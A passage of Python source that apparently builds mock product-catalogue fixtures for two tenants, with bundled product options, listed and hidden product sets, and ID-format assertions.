        {"id": "a0OSw00000PrOp3AAA", "optionName": "Onboarding Hours Pack", "optionType": "RelatedProduct",
         "defaultQuantity": 10, "minQuantity": 10, "maxQuantity": 10, "quantityEditable": False,
         "bundled": True, "product": {"id": "01tSw00000PrPk9AAE", "name": "Onboarding pack (alt)",
                                      "sku": "ALT-PRC-PACK"}}]})
    return [volume, stairstep, ramp, discounts, usage, rampflat, bundle], [seats]


def build_products():
    result = {}
    for tid, fn in (("north", north_products), ("south", south_products)):
        listed, hidden, *rest = fn()
        readable = rest[0] if rest else []   # not listed, but read by id
        for p in listed + hidden + readable:
            assert len(p["id"]) == 18 and p["id"].isalnum() and p["id"].startswith("01t"), p["id"]
        result[tid] = {"listed": listed,
                       "by_id": {p["id"]: p for p in listed + readable},
                       "all_ids": {p["id"] for p in listed + hidden + readable}}
    return result


PRODUCTS = build_products()
PAGE_LIMIT_MAX = 5
